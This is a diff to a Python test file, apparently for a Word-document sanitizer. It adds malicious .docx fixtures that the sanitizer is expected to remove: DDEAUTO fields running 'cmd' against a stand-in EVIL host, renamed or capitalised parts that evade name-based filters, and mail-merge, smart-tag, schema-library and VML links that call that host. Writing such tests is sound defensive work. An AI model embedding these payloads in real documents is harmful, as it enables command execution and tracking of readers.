@@ -149,6 +149,35 @@ def with_macros(parts: Parts) -> None:
     )
 
 
+def renamed(old: str, new: str, change: Change) -> Change:
+    """A part by another name, which Word finds by the list of contents and by relationships."""
+
+    def rename(parts: Parts) -> None:
+        change(parts)
+        parts[new] = parts.pop(old)
+        for name in ("[Content_Types].xml", "_rels/.rels"):
+            parts[name] = parts[name].replace(old.encode(), new.encode())
+        folder, name = old.rsplit("/", 1)
+        if (rels := f"{folder}/_rels/{name}.rels") in parts:
+            parts[f"{folder}/_rels/{new.rsplit('/', 1)[1]}.rels"] = parts.pop(rels)
+
+    return rename
+
+
+def hooked(xml: str) -> Change:
+    return lambda parts: body(parts, xml, SETTINGS, b"</w:settings>")
+
+
+_LIBRARY = "http://schemas.openxmlformats.org/schemaLibrary/2006/main"
+SMART = (
+    f'<sl:schemaLibrary xmlns:sl="{_LIBRARY}"><sl:schema sl:uri="x" '
+    f'sl:manifestLocation="http://{EVIL}/m.xml"/></sl:schemaLibrary>'
+)
+MERGE = f'<w:mailMerge><w:connectString w:val="DSN={EVIL}"/><w:query w:val="x"/></w:mailMerge>'
+TAG = f'<w:smartTagType w:namespaceuri="x" w:name="x" w:url="http://{EVIL}/x"/>'
+SOURCE = f"<w:r><w:pict><v:shape><v:imagedata src='http://{EVIL}'/></v:shape></w:pict></w:r>"
+CLICK = f"<w:r><w:pict><v:shape href='http://{EVIL}' o:althref='x'/></w:pict></w:r>"
+
 PICTURE = f"<w:r><w:pict><v:shape><v:imagedata r:id='rEvil' o:href='http://{EVIL}'/></v:shape></w:pict></w:r>"
 BLIP = "<w:r><w:drawing><a:blip r:link='rEvil'/></w:drawing></w:r>"
 OBJECT = "<w:r><w:object><o:OLEObject ProgID='Package' r:id='rEvil'/></w:object></w:r>"
@@ -199,6 +228,21 @@ ATTACKS: Mapping[str, tuple[Change, Removed]] = {
         Removed.LINK,
     ),
     "a relationship that nobody names": (refers("frame", ""), Removed.OTHER),
+    "a field in a part of another name": (
+        renamed(DOCUMENT, "word/document.dat", field(f" DDEAUTO cmd {EVIL} ")), Removed.FIELD,
+    ),
+    "a field in a part in capitals": (
+        renamed(DOCUMENT, "word/DOCUMENT.XML", field(f" DDEAUTO cmd {EVIL} ")), Removed.FIELD,
+    ),
+    "relationships in capitals": (
+        renamed("word/_rels/settings.xml.rels", "word/_rels/settings.xml.RELS", remote_template),
+        Removed.REMOTE_TEMPLATE,
+    ),
+    "a source of a mail merge": (hooked(MERGE), Removed.OTHER),
+    "a program of a smart document": (hooked(SMART), Removed.OTHER),
+    "a smart tag": (hooked(TAG), Removed.OTHER),
+    "an old picture's source": (lambda parts: body(parts, paragraph(SOURCE)), Removed.LINK),
+    "an old drawing's link": (lambda parts: body(parts, paragraph(CLICK)), Removed.LINK),
 }  # fmt: skip
 
 
